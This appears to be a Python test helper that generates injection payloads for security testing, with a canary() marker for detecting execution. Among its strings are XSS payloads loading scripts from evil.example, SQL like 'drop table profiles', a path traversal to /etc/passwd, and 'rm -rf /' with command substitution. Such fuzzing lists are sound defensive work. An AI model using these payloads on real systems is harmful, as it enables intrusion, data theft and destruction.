"""Words that somebody types who wants more than to be read."""

import random
from collections.abc import Iterator

CANARY = "canary()"
"""What they want executed; the browser tells of every call."""

_OPENINGS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</a>",
    "`",
    "\\",
)
_PAYLOADS = (
    "<script>canary()</script>",
    "<ScRiPt/x>canary()</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=canary()>",
    "<img src='https://evil.example/p.gif'>",
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    "<body onload=canary()>",
    "<details open ontoggle=canary()>",
    "<input autofocus onfocus=canary()>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src=javascript:parent.canary()></iframe>",
    "<object data=javascript:canary()></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<form action=//evil.example/><button>x</button></form>",
    "<a href=javascript:canary() id=pwned>x</a>",
    "<b id=pwned>x</b>",
    " onmouseover=canary() autofocus onfocus=canary() x=",
    " style=background:url(//evil.example/) x=",
    "javascript:canary()",
    "data:text/html,<script>canary()</script>",
    "{{ 111*7007 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in [777] %}{{ x * 1001 }}{% endfor %}",
    "{% include 'base.html' %}",
    "${111*7007}#{111*7007}",
    "[x](javascript:canary())",
    "![x](https://evil.example/p.gif)",
    '[x]: https://evil.example/ "x"',
    "<https://evil.example/>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;img src=x onerror=canary()&#62;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "＜script＞canary()＜/script＞",
    "x\r\nBcc: eve@evil.example\r\n\r\n<script>canary()</script>",
    "x\r\nX-Injected: yes",
    "x%0d%0aX-Injected:%20yes",
    "=?utf-8?q?=0d=0aX-Injected:_yes?=",
    "'; drop table profiles; --",
    "' or 1=1 --",
    "\\'; delete from events; --",
    "%' union select null --",
    "$1 :name %(x)s %s {0} {x.__class__}",
    "=1+1",
    "\x00\x08\x1b[2J\x1b]0;x\x07\x9b31m",
    "\u202egpj.exe\u2066\u2028\u2029",
    "\ud7ff\ufffe\ufeff💥",
    "../../../../etc/passwd",
    "--help; rm -rf / `id` $(id) | id",
)


def values(number: int) -> list[str]:
    """So many of them, the same ones each time, every payload among them."""
    chance = random.Random(7)
    plain = list(_PAYLOADS)
    opened = [opening + payload for opening in _OPENINGS[1:] for payload in _PAYLOADS]
    chance.shuffle(opened)
    return (plain + opened)[:number]


def together(number: int, longest: int = 290) -> Iterator[str]:
    """The same in texts that a field takes: several stand in one, apart from each other."""
    text = ""
    for value in values(number):
        if len(text) + len(value) + 1 > longest:
            yield text
            text = ""
        text = f"{text} {value}" if text else value
    yield text
